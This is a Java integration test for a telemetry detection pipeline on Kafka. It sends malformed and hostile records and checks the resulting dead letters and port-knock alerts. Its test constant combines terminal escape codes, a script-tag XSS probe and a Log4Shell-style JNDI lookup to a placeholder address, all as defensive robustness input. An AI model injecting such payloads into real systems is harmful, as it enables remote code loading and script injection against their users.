package dev.an0844.kafka;

import static org.assertj.core.api.Assertions.assertThat;

import dev.an0844.detection.Alert;
import dev.an0844.output.DeadLetter;
import dev.an0844.output.DeadLetterReason;
import dev.an0844.reference.TelemetryStory;
import dev.an0844.telemetry.FirewallChange;
import dev.an0844.telemetry.Process;
import dev.an0844.telemetry.TelemetryEvent;
import dev.an0844.wire.SchemaHistory;
import dev.an0844.wire.SchemaRegistry;
import dev.an0844.wire.SingleObject;
import dev.an0844.wire.WireDecoder;
import dev.an0844.wire.WireResult;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.apache.avro.specific.SpecificRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The whole job on a real broker, fed with what nobody should send. */
class HostileKafkaIT {

  private static final Duration PATIENCE = Duration.ofMinutes(3);
  private static final String ATTACKER = "203.0.113.7";
  private static final String ANSI_AND_HTML =
      "\u001b[2J\u0000\r\n<script>alert(1)</script>\u202e${jndi:ldap://203.0.113.9/a}";
  private static final int FLOOD = 20_000;

  @TempDir Path folder;
  private KafkaBroker broker;

  @BeforeEach
  void startTheBroker() throws Exception {
    broker = KafkaBroker.start(Files.createDirectory(folder.resolve("broker")));
    broker.createTopics(
        1,
        "an0844.telemetry",
        "an0844.alerts",
        "an0844.suppressed",
        "an0844.late",
        "an0844.dead-letters",
        "an0844.coverage",
        "an0844.findings");
  }

  @AfterEach
  void stopTheBroker() {
    broker.close();
  }

  @Test
  void eachHostileRecordIsOneDeadLetterAndTheKnocksAreFoundAmongThem() throws Exception {
    List<byte[]> hostile = hostileRecords();
    List<byte[]> knocks = encoded(knocks());
    List<byte[]> mixed = new ArrayList<>();
    for (int i = 0; i < Math.max(hostile.size(), knocks.size()); i++) {
      mixed.addAll(hostile.subList(Math.min(i, hostile.size()), Math.min(i + 1, hostile.size())));
      mixed.addAll(knocks.subList(Math.min(i, knocks.size()), Math.min(i + 1, knocks.size())));
    }

    try (RunningJob job = RunningJob.start(options())) {
      topic("telemetry").publish("mac-1", mixed);
      topic("dead-letters").readUntil(records -> records.size() == hostile.size(), PATIENCE);
      job.drain(folder.resolve("savepoints"));
    }

    assertThat(read("dead-letters", DeadLetter.class))
        .hasSize(hostile.size())
        .allMatch(letter -> letter.getLeftOut() == 0)
        .extracting(letter -> letter.getOrigin().getOffset())
        .doesNotHaveDuplicates();
    List<Alert> alerts = read("alerts", Alert.class);
    assertThat(alerts)
        .extracting(Alert::getHostId)
        .satisfiesExactlyInAnyOrder(
            host -> assertThat(host).isEqualTo("mac-1"),
            host -> assertThat(host).isEqualTo("mac-2" + ANSI_AND_HTML),
            host -> assertThat(host).startsWith("mac-3").contains("...[clipped: 32"));
    assertThat(alerts)
        .filteredOn(alert -> alert.getHostId().startsWith("mac-2"))
        .singleElement()
        .satisfies(
            alert ->
                assertThat(alert.getOpenings().get(0).getRule())
                    .as("what was sent is what is shown")
                    .isEqualTo(ANSI_AND_HTML));
  }

  @Test
  void aFloodOfGarbageIsSampledCountedAndHidesNoKnock() throws Exception {
    byte[] garbage = "garbage".getBytes(StandardCharsets.UTF_8);
    Map<String, String> options = options();
    options.put("dead-letters.per-minute", "100");

    try (RunningJob job = RunningJob.start(options)) {
      topic("telemetry").publish("mac-9", Collections.nCopies(FLOOD, garbage));
      topic("telemetry").publish("mac-1", encoded(knock("mac-1", 0).events()));
      topic("telemetry").publish("mac-9", Collections.nCopies(FLOOD, garbage));
      topic("alerts").readUntil(records -> records.size() == 1, PATIENCE);
      job.drain(folder.resolve("savepoints"));
    }

    List<DeadLetter> letters = read("dead-letters", DeadLetter.class);
    assertThat(letters)
        .hasSizeLessThan(200)
        .extracting(DeadLetter::getReason)
        .containsOnly(DeadLetterReason.UNDECODABLE);
    assertThat(letters.stream().mapToLong(letter -> 1 + letter.getLeftOut()).sum())
        .isEqualTo(2L * FLOOD);
  }

  private static List<TelemetryEvent> knocks() {
    List<TelemetryEvent> plain = knock("mac-1", 0).events();
    List<TelemetryEvent> escapes = knock("mac-2" + ANSI_AND_HTML, 20_000).events();
    escapes.forEach(event -> texts(event, ANSI_AND_HTML));
    List<TelemetryEvent> longest = knock("mac-3" + "\u20ac".repeat(10_900), 40_000).events();
    longest.forEach(event -> texts(event, "\u20ac".repeat(10_900)));
    List<TelemetryEvent> all = new ArrayList<>(plain);
    all.addAll(escapes);
    all.addAll(longest);
    return all;
  }

  private static TelemetryStory knock(String host, long from) {
    TelemetryStory story = TelemetryStory.on(host);
    for (int i = 0; i < 16; i++) {
      story.refused(ATTACKER, 7_000 + i).at(from + i);
    }
    for (int i = 0; i < 10; i++) {
      story.enablesRule(22).at(from + 1_000 + i);
    }
    return story.connects(ATTACKER, 22).at(from + 5_000);
  }

  private static void texts(TelemetryEvent event, String text) {
    event.setEventId(event.getEventId() + text.substring(0, Math.min(text.length(), 10_000)));
    event.getHost().setName(text);
    event.getHost().setTags(List.of(text, text));
    if (event.getBody() instanceof FirewallChange change) {
      change.setRule(text);
      change.setAnchor(text);
      change.setApplicationPath(text);
      change.setProcess(new Process(1L, text, text, text, text, 0L, List.of(text, text)));
    }
  }

  private static List<byte[]> hostileRecords() {
    byte[] sound = SingleObject.encode(TelemetryStory.on("mac-1").binds(22).events().get(0));
    byte[] absurd = sound.clone();
    System.arraycopy(new byte[] {-2, -1, -1, -1, 0x0F}, 0, absurd, 10, 5);
    byte[] ofNobodysSchema = sound.clone();
    ofNobodysSchema[5] ^= 1;
    List<byte[]> hostile =
        new ArrayList<>(
            List.of(
                new byte[0],
                "not avro".getBytes(StandardCharsets.UTF_8),
                "x".repeat(900_000).getBytes(StandardCharsets.UTF_8),
                Arrays.copyOf(sound, sound.length - 1),
                Arrays.copyOf(sound, sound.length + 1),
                absurd,
                ofNobodysSchema,
                new byte[] {0, 0, 0, 0, 7, 1, 2, 3}));
    hostile.add(broken(event -> event.setEventId("")));
    hostile.add(broken(event -> event.setEventId("i".repeat(900_000))));
    hostile.add(broken(event -> event.getHost().setId("h".repeat(900_000))));
    hostile.add(broken(event -> event.getHost().setTags(Collections.nCopies(1_025, ""))));
    hostile.add(broken(event -> event.setEventTime(Instant.EPOCH.minusSeconds(1))));
    hostile.add(broken(event -> event.setEventTime(Instant.parse("+250000-01-01T00:00:00Z"))));
    hostile.add(broken(event -> event.setEventTime(Instant.now().plus(Duration.ofDays(3)))));
    hostile.add(SingleObject.encode(TelemetryStory.on("mac-1").binds(70_000).events().get(0)));
    hostile.add(SingleObject.encode(TelemetryStory.on("mac-1").binds(-1).events().get(0)));
    hostile.add(
        SingleObject.encode(TelemetryStory.on("mac-1").refused(ANSI_AND_HTML, 22).events().get(0)));
    return hostile;
  }

  private static byte[] broken(Consumer<TelemetryEvent> how) {
    TelemetryEvent event = TelemetryStory.on("mac-1").binds(22).events().get(0);
    how.accept(event);
    return SingleObject.encode(event);
  }

  private static List<byte[]> encoded(List<TelemetryEvent> events) {
    return events.stream().map(SingleObject::encode).toList();
  }

  private Map<String, String> options() {
    Map<String, String> options = new HashMap<>();
    options.put("source.kafka.bootstrap", broker.bootstrap());
    options.put("sink.kafka.bootstrap", broker.bootstrap());
    options.put("watermark.idle-timeout", "1 s");
    options.put("checkpoint.interval", "500 ms");
    options.put("checkpoint.min-pause", "0 ms");
    options.put("checkpoint.directory", folder.resolve("checkpoints").toUri().toString());
    options.put("job.parallelism", "1");
    return options;
  }

  private KafkaTopic topic(String name) {
    return new KafkaTopic(broker.bootstrap(), "an0844." + name);
  }

  private <T extends SpecificRecord> List<T> read(String topic, Class<T> type) {
    WireDecoder<T> decoder =
        new WireDecoder<>(type, SchemaHistory.packaged(), SchemaRegistry.none());
    return topic(topic).readToTheEnd().stream()
        .map(value -> decoder.decode(value.value()))
        .map(result -> ((WireResult.Decoded<T>) result).record())
        .toList();
  }
}
